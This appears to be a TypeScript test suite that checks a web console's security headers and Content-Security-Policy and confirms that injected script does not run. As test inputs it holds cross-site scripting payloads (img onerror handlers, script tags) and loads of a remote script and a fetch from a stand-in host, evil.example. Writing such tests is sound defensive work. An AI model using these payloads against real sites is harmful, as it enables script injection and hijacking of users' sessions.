import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Client } from '#core/client.ts'
import { startServer, type LocalServer } from '../../worker/local/server.ts'
import { launchBrowser } from '../support/node/browser.ts'
import { openConsole, type ConsolePage } from '../support/node/console-page.ts'
import { freePort } from '../support/node/sandbox.ts'

const FIRST_PORT = 24_400

let folder: string
let server: LocalServer
let browser: Browser

async function headersOf(path: string): Promise<Headers> {
  const response = await fetch(server.console_url + path)
  await response.arrayBuffer()
  expect(response.status).toBe(200)
  return response.headers
}

/** What the page's policy has refused since this was called, and what comes of an attempt. */
async function attempt(page: ConsolePage['page'], script: string): Promise<unknown> {
  return await page.evaluate(`(async () => {
    const refused = []
    document.addEventListener('securitypolicyviolation', (event) => {
      refused.push(event.effectiveDirective)
    })
    ${script}
    for (let wait = 0; wait < 600 && refused.length === 0; wait += 1) {
      await new Promise((resolve) => setTimeout(resolve, 50))
    }
    return { refused: [...new Set(refused)], ran: globalThis.injected === true }
  })()`)
}

describe('the console', () => {
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'headgate-protection-'))
    server = await startServer({ state: folder, port: await freePort(FIRST_PORT) })
    browser = await launchBrowser()
  })

  afterAll(async () => {
    await browser.close()
    await server.stop()
    await rm(folder, { recursive: true, force: true })
  })

  it.each(['/', '/runs', '/login', '/index.html', '/work-pools/x/y'])(
    'says of %s what it may do',
    async (path) => {
      const headers = await headersOf(path)
      const policy = headers.get('Content-Security-Policy') ?? ''
      const directives = new Map(
        policy.split('; ').map((part) => {
          const [name = '', ...values] = part.split(' ')
          return [name, values] as const
        }),
      )
      for (const name of ['object-src', 'base-uri', 'frame-ancestors']) {
        expect(directives.get(name), name).toEqual(["'none'"])
      }
      for (const name of ['default-src', 'connect-src', 'form-action', 'font-src']) {
        expect(directives.get(name), name).toEqual(["'self'"])
      }
      expect(directives.get('script-src')).toEqual([
        "'self'",
        expect.stringMatching(/^'sha256-/),
        expect.stringMatching(/^'sha256-/),
      ])
      expect(policy).not.toContain("'unsafe-inline'")
      expect(policy).not.toContain("'unsafe-eval'")
      expect(Object.fromEntries(headers)).toMatchObject({
        'strict-transport-security': 'max-age=31536000',
        'x-content-type-options': 'nosniff',
        'x-frame-options': 'DENY',
        'referrer-policy': 'same-origin',
        'permissions-policy': expect.stringContaining('camera=()'),
        'cross-origin-opener-policy': 'same-origin',
        'cross-origin-resource-policy': 'same-origin',
        'cache-control': 'public, max-age=0, must-revalidate',
      })
    },
  )

  it('lets browsers keep what never changes', async () => {
    const page = await (await fetch(server.console_url)).text()
    const [script] = /\/_app\/immutable\/[\w/.-]+\.js/.exec(page) ?? ['']
    expect(script).not.toBe('')
    const headers = await headersOf(script)
    expect(headers.get('Cache-Control')).toBe('public, max-age=31536000, immutable')
    expect(headers.get('X-Content-Type-Options')).toBe('nosniff')
  })

  it('works under its policy, and runs nothing that was put into it', async () => {
    const client = new Client({ apiUrl: server.api_url, apiKey: server.api_key })
    const flow = await client.createFlow({ name: 'etl' })
    // Of what others write, what looks like a script is text.
    await client.createFlowRun({
      flow_id: flow.id,
      name: '<img src=x onerror="globalThis.injected = true">',
      state: { type: 'COMPLETED', message: '<script>globalThis.injected = true</script>' },
    })
    const opened = await openConsole(browser, {
      origin: server.console_url,
      apiKey: server.api_key,
    })
    const { page, complaints } = opened
    for (const path of ['/runs', '/work-pools', '/deployments']) {
      await opened.open(path)
      await page.getByRole('heading').first().waitFor()
    }
    await opened.open('/runs')
    await page.getByText('<img src=x').first().waitFor()
    await page.getByText('Live', { exact: true }).waitFor()
    expect(complaints).toStrictEqual([])
    expect(await page.evaluate('globalThis.injected')).toBeUndefined()

    expect(
      await attempt(
        page,
        `const script = document.createElement('script')
         script.textContent = 'globalThis.injected = true'
         document.body.append(script)`,
      ),
    ).toEqual({ refused: ['script-src-elem'], ran: false })
    expect(
      await attempt(
        page,
        `const holder = document.createElement('div')
         holder.innerHTML = '<img src="data:," onerror="globalThis.injected = true">'
         document.body.append(holder)`,
      ),
    ).toEqual({ refused: ['script-src-attr'], ran: false })
    expect(
      await attempt(
        page,
        `const script = document.createElement('script')
         script.src = 'https://evil.example/x.js'
         document.body.append(script)`,
      ),
    ).toEqual({ refused: ['script-src-elem'], ran: false })
    expect(
      await attempt(page, `fetch('https://evil.example/', { mode: 'no-cors' }).catch(() => 0)`),
    ).toEqual({ refused: ['connect-src'], ran: false })
    await opened.close()
  })

  it('is shown in no frame', async () => {
    const context = await browser.newContext()
    const page = await context.newPage()
    const said: string[] = []
    page.on('console', (message) => said.push(message.text()))
    await page.setContent(`<iframe src="${server.console_url}/login"></iframe>`)
    await expect.poll(() => said.join('\n')).toContain('frame-ancestors')
    await context.close()
  })
})
